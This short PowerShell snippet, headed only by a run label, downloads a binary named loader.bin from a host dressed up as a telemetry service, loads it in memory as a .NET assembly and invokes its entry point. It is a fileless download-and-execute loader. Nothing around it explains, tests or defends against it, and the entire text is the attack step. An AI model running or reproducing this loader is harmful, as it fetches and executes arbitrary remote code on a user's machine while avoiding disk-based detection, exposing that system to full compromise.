# run 7570 v1
$b = (New-Object Net.WebClient).DownloadData('http://api.telemetry-hub.example/loader.bin')
$a = [System.Reflection.Assembly]::Load($b)
$a.EntryPoint.Invoke($null, (, [string[]] @()))
